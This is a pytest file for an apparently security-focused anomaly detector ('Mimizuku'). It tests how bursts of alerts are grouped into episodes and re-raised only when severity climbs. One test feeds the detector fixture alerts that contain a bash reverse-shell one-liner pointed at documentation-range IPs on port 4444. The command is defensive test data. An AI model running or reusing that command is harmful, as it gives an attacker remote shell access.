"""Repeats: a burst of one situation is one episode: raised once, then only when it climbs a band."""
from __future__ import annotations

import datetime as dt
from pathlib import Path

import alert_factory as F
import pytest

from mimizuku import Mimizuku
from mimizuku.engine import correlate as corr
from mimizuku.engine.policy import apply_policy
from mimizuku.engine.repeats import RepeatWindows
from mimizuku.integratord.options import Options

# --- the windows ------------------------------------------------------------------------------

def test_an_episode_opens_on_an_anomaly_and_goes_on_until_a_pause():
    w = RepeatWindows(window=60)
    assert w.judge("s", 100, "low", "a1", "T100") is None   # opens
    assert w.judge("s", 130, "low", "a2") == "a1"          # inside: repeats the opener
    assert w.judge("s", 159, "low", "a3") == "a1"
    assert w.judge("other", 131, "low", "b1") is None      # another situation is its own anomaly
    # no pause of 60 s: the episode goes on however long it lasts (one story, not one a minute)
    for t in range(160, 4000, 30):
        assert w.judge("s", t, "low", f"x{t}") == "a1"
    ep = w.episode("s")
    assert ep.opener == "a1" and ep.since == "T100" and ep.opened == 100 and ep.last == 3970
    assert ep.alerts == 3 + len(range(160, 4000, 30)) and ep.duration == 3870
    assert w.judge("s", 4100, "low", "a4") is None         # a pause longer than 60 s: a new episode
    assert w.judge("s", 4110, "low", "a5") == "a4"
    assert w.episode("s").alerts == 2 and w.episode("nothing") is None


def test_an_escalating_burst_is_flagged_again_once_per_band():
    w = RepeatWindows(window=60)
    assert w.judge("s", 0, "low", "a1") is None
    assert w.judge("s", 1, "medium", "a2") is None         # higher band: news
    assert w.judge("s", 2, "medium", "a3") == "a1"         # the same band again: not news
    assert w.judge("s", 3, "low", "a4") == "a1"
    assert w.judge("s", 4, "critical", "a5") is None
    assert w.judge("s", 5, "high", "a6") == "a1"


def test_no_time_or_an_older_alert_is_judged_on_its_own():
    w = RepeatWindows(window=60)
    assert w.judge("s", None, "low", "a1") is None
    assert w.judge("s", None, "low", "a2") is None
    assert w.judge("s", 500, "low", "a3") is None
    assert w.judge("s", 400, "low", "a4") is None          # replayed out of order: not a repeat
    assert w.judge("s", 510, "low", "a5") == "a3"          # and the open window is kept


def test_windows_are_bounded_and_drop_the_oldest_first():
    w = RepeatWindows(window=60, max_entries=100)
    for i in range(1000):
        w.judge(("s", i), 10, "low", f"a{i}")
    assert len(w) <= 100
    assert w.judge(("s", 999), 20, "low", "x") == "a999"   # the newest survived
    assert w.judge(("s", 0), 20, "low", "y") is None       # the oldest was dropped


# --- in the engine ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def model():
    return Mimizuku(contamination=0.001, n_neighbors=5).fit(F.normal_fleet(days=4))


def _flood(start: dt.datetime, n: int, *, srcip="203.0.113.9", agent="web-01", agent_id="001", every=0.5):
    return [F.event(start + dt.timedelta(seconds=every * i), "31101", level=5, desc="Web server 400 error code.",
                    groups=["web", "accesslog", "attack"], agent=agent, agent_id=agent_id, srcip=srcip)
            for i in range(n)]


def test_a_flood_of_a_new_situation_is_one_anomaly_and_the_rest_repeat_it(model):
    t = F.BASE + dt.timedelta(days=5, hours=10)
    flood = _flood(t, 40)                                     # 20 s of one source's 400s
    recs = model.score_records(flood)
    flagged = [r for r in recs if r["anomaly"]]
    above = [r for r in recs if r["scores"]["context"] >= r["threshold"]]
    assert len(above) >= 20                                   # most of the flood is above the threshold
    bands = {r["severity"] for r in flagged}
    assert 1 <= len(flagged) <= len(bands) <= 4               # one per severity band it climbed to, at most
    assert flagged[0]["id"] == above[0]["id"]                 # the first one above the threshold is the anomaly
    repeats = [r for r in recs if r.get("repeat_of")]
    assert len(repeats) == len(above) - len(flagged)
    assert {r["repeat_of"] for r in repeats} == {flagged[0]["id"]}
    for r in repeats:
        assert r["anomaly"] is False and r["severity"] == "none"
        assert r["score"] >= r["threshold"]                   # the score is kept: it still ranks
        assert r["reasons"] and f"repeats anomaly {flagged[0]['id']}" in r["reasons"][0]
    # the DataFrame of anomalies holds the flood's anomalies only
    df = model.predict(flood)
    assert list(df["id"]) == [r["id"] for r in flagged]


def test_a_two_hour_scan_is_one_story_with_updates_only_when_it_climbs(model):
    """One source for two hours (a burst of 40 every minute): raised once, then once per band it
    climbs to, each update carrying the story so far; the event shows it too."""
    from mimizuku.delivery.events import build_payload

    t = F.BASE + dt.timedelta(days=5, hours=10)
    scan = []
    for minute in range(120):
        scan += _flood(t + dt.timedelta(minutes=minute), 40, every=1.0)
    recs = model.score_records(scan)
    raised = [r for r in recs if r["anomaly"]]
    assert 1 <= len(raised) <= 4                               # not 120 (one a minute)
    assert sum(1 for r in recs if r.get("repeat_of")) > 4000
    first, updates = raised[0], raised[1:]
    assert "episode" not in first
    ranks = {"low": 1, "medium": 2, "high": 3, "critical": 4}
    assert [ranks[r["severity"]] for r in raised] == sorted({ranks[r["severity"]] for r in raised})
    for u in updates:
        ep = u["episode"]
        assert ep["of"] == first["id"] and ep["since"] == first["timestamp"] and ep["alerts"] > 1
        assert u["reasons"][0].startswith(f"update of anomaly {first['id']}: {u['severity']} now")
        assert build_payload(u)["mimizuku"]["episode"] == ep
    last = recs[-1]
    assert last["repeat_of"] == first["id"] and "4800 alerts over 119 min" in last["reasons"][0]


def test_after_a_long_pause_the_flood_is_raised_again_and_other_sources_are_their_own(model):
    t = F.BASE + dt.timedelta(days=5, hours=10)
    alerts = _flood(t, 10) + _flood(t + dt.timedelta(seconds=2), 10, srcip="198.51.100.7")
    alerts += _flood(t + dt.timedelta(minutes=20), 10)          # the same source after a long pause
    alerts.sort(key=lambda a: a["timestamp"])
    recs = {r["id"]: r for r in model.score_records(alerts)}
    openers = [r for r in recs.values() if r["anomaly"]]
    by_src = {}
    for r in openers:
        by_src.setdefault(r["fields"].get("srcip"), []).append(r["timestamp"])
    assert set(by_src) == {"203.0.113.9", "198.51.100.7"}
    first = sorted(by_src["203.0.113.9"])
    assert first[0] < F.ts(t + dt.timedelta(minutes=15)) <= first[-1]   # raised again after the pause
    repeats = [r for r in recs.values() if r.get("repeat_of")]
    assert len(repeats) > len(openers)
    for r in repeats:
        assert recs[r["repeat_of"]]["fields"].get("srcip") == r["fields"].get("srcip")


def test_a_stream_reset_forgets_open_windows(model):
    t = F.BASE + dt.timedelta(days=5, hours=10)
    first = [r for r in model.score_records(_flood(t, 10)) if r["anomaly"]]
    assert first
    later = _flood(t + dt.timedelta(seconds=5), 10)
    same_stream = list(model.iter_records(later, new_stream=False))
    assert not any(r["anomaly"] and r["severity"] == first[-1]["severity"] for r in same_stream)
    assert any(r["anomaly"] for r in model.score_records(later))         # a new stream: raised again


def _sudo(t, cmd, user="deploy"):
    a = F.event(t, "5402", desc="Successful sudo to ROOT executed.", groups=["syslog", "sudo"], user="root")
    a["data"]["srcuser"], a["data"]["command"] = user, cmd
    return a


@pytest.fixture(scope="module")
def sudo_model():
    """A fleet where sudo is routine: every working hour a reload, seen by sudo's log and auditd."""
    train = F.normal_fleet(days=4)
    for d in range(4):
        for h in range(8, 18):
            t = F.BASE + dt.timedelta(days=d, hours=h, minutes=30)
            train += [F.command(t, ["/usr/bin/sudo", "/usr/bin/systemctl", "reload", "nginx"]),
                      _sudo(t, "/usr/bin/systemctl reload nginx")]
    train.sort(key=lambda a: a["timestamp"])
    return Mimizuku(contamination=0.001, n_neighbors=5).fit(train)


def test_one_command_seen_by_sudo_and_auditd_is_one_anomaly(sudo_model):
    t = F.BASE + dt.timedelta(days=5, hours=10)
    ms = dt.timedelta(milliseconds=30)
    alerts = [F.command(t, ["/usr/bin/sudo", "/usr/sbin/reboot"]), _sudo(t + ms, "/usr/sbin/reboot"),
              F.command(t + 40 * ms, ["/usr/bin/sudo", "/usr/bin/crontab", "-e"]),     # other news
              _sudo(t + 41 * ms, "/usr/bin/crontab -e"),
              _sudo(t + dt.timedelta(minutes=20), "/usr/sbin/reboot")]                  # after a long pause
    recs = sudo_model.score_records(alerts)
    assert [r["detector"] for r in recs] == ["commands"] * 5
    assert all(r["scores"]["commands"] >= r["threshold"] for r in recs)
    assert [r["anomaly"] for r in recs] == [True, False, True, False, True]
    assert recs[1]["repeat_of"] == recs[0]["id"] and recs[3]["repeat_of"] == recs[2]["id"]
    assert "commands: the same never-seen words" in recs[1]["reasons"][0]
    assert "repeat_of" not in recs[0] and "repeat_of" not in recs[4]


def test_an_alert_another_detector_flags_is_never_a_repeat(model, monkeypatch):
    monkeypatch.setattr(model, "story_window", 0)   # the repeat rule alone (stories: test_stories.py)
    t = F.BASE + dt.timedelta(days=5, hours=10)
    shells = [F.command(t + dt.timedelta(seconds=i), ["bash", "-c", f"bash -i >& /dev/tcp/203.0.113.{i}/4444 0>&1"],
                        user="www-data") for i in range(1, 6)]
    recs = model.score_records(shells)
    assert all(r["anomaly"] for r in recs)
    assert not any(r.get("repeat_of") for r in recs)


def test_a_hot_reload_keeps_the_open_windows(model, tmp_path):
    from mimizuku.serve.reload import carry_stream_state

    t = F.BASE + dt.timedelta(days=5, hours=10)
    flood = _flood(t, 30)
    old = model
    opened = [r for r in old.score_records(flood[:15]) if r["anomaly"]]
    assert opened
    model.save_model(tmp_path / "m")
    new = Mimizuku.load_model(tmp_path / "m")
    assert carry_stream_state(old, new)
    rest = list(new.iter_records(flood[15:], new_stream=False))
    assert not any(r["anomaly"] and r["severity"] == opened[-1]["severity"] for r in rest)
    assert {r["repeat_of"] for r in rest if r.get("repeat_of")} <= {opened[0]["id"]}


# --- the consumers --------------------------------------------------------------------------

def _repeat_rec(score=0.9):
    return {"id": "r2", "detector": "context", "score": score, "score_pct": round(score * 100), "threshold": 0.8,
            "anomaly": False, "severity": "none", "reasons": ["repeats anomaly r1 (...)"], "repeat_of": "r1"}


def test_a_threshold_override_does_not_raise_a_repeat():
    o = Options.defaults(Path("/nonexistent"))
    o.thresholds = {"*": 0.5}
    o.send = "all"
    out = apply_policy([_repeat_rec()], o)
    assert out[0]["anomaly"] is False
    o.send = "anomalies"
    assert apply_policy([_repeat_rec()], o) == []
    plain = dict(_repeat_rec())
    del plain["repeat_of"]
    assert apply_policy([plain], o)[0]["anomaly"] is True    # the same record without repeat_of is


def test_correlation_does_not_flag_a_repeat():
    t0 = F.ts(F.BASE)
    seed = {"id": "s1", "timestamp": t0, "agent": {"name": "web-01", "id": "001", "ip": "10.0.0.2"},
            "rule": {"id": "31101", "groups": ["web"]}, "detector": "context", "score": 0.95, "score_pct": 95,
            "threshold": 0.5, "anomaly": True, "severity": "high", "reasons": ["burst"],
            "fields": {"srcip": "185.220.101.7"}}
    rep = dict(seed, id="s2", score=0.4, score_pct=40, anomaly=False, severity="none",
               reasons=["repeats anomaly s1"], repeat_of="s1")
    out = {r["id"]: r for r in corr.correlate([seed, rep], flag_related=True)}
    assert out["s2"]["anomaly"] is False
    rep2 = dict(rep)
    del rep2["repeat_of"]
    out = {r["id"]: r for r in corr.correlate([seed, rep2], flag_related=True)}
    assert out["s2"]["anomaly"] is True                          # without repeat_of it would be lifted
